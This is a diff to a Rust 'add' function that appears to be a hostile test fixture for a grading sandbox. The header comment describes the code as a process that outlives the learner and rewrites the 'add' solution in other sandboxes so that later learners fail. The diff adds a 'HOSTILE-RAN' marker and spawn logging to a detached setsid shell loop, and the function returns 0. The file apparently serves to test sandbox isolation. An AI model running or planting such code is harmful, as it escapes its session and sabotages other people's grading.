@@ -1,6 +1,7 @@
 // A process that outlives this learner and, for a while, rewrites the `add` solution in every
 // other sandbox it can find, so that learners graded later fail.
 fn add(a: i32, b: i32) -> i32 {
+    let _ = std::io::Write::write_all(&mut std::io::stdout(), b"HOSTILE-RAN:sandbox_tamper\n");
     let script = r#"
         i=0
         while [ $i -lt 600 ]; do
@@ -16,12 +17,16 @@ fn add(a: i32, b: i32) -> i32 {
             sleep 0.1
         done
     "#;
-    let _ = std::process::Command::new("setsid")
+    let spawned = std::process::Command::new("setsid")
         .args(["sh", "-c", script, "@MARKER@", "@WORK@", "@COURSE@"])
         .stdin(std::process::Stdio::null())
         .stdout(std::process::Stdio::null())
         .stderr(std::process::Stdio::null())
         .spawn();
+    match spawned {
+        Ok(_) => println!("SPAWNED setsid"),
+        Err(err) => println!("SPAWN setsid failed: {err}"),
+    }
     let _ = (a, b);
     0
 }
